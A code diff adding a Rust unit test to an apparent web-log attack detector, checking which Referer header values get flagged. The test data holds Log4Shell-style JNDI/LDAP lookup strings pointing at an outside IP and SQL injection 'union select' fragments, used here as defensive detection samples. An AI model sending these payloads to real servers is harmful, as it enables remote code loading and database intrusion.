@@ -47,6 +47,19 @@ fn every_signature_fires_on_its_samples_and_is_silent_on_look_alikes() {
 }
 
 #[test]
+fn the_page_that_somebody_came_from_is_no_payload_and_what_no_browser_writes_is() {
+    let classes = |referer: &str| {
+        let record = Record { path: b"/app.css", referer: referer.as_bytes(), ..Record::default() };
+        inspect(&record, &Keyed::new(1), &mut Space::default()).classes
+    };
+    assert_eq!(classes("https://docs.example/search?q=1%27+union+select+1%2C2--"), 0);
+    assert_eq!(classes("https://docs.example/?q=%24%7Bjndi%3Aldap%3A%2F%2Fx%7D"), 0);
+    assert_ne!(classes("${jndi:ldap://198.51.100.7/a}"), 0);
+    assert_ne!(classes("https://shop.example/?x=${jndi:ldap://198.51.100.7/a}"), 0);
+    assert_ne!(classes("http://shop.example/' union select 1,2--"), 0);
+}
+
+#[test]
 fn names_are_told_once_and_all_patterns_have_a_bit() {
     let mut names: Vec<&str> = all().map(|signature| signature.name).collect();
     names.sort_unstable();
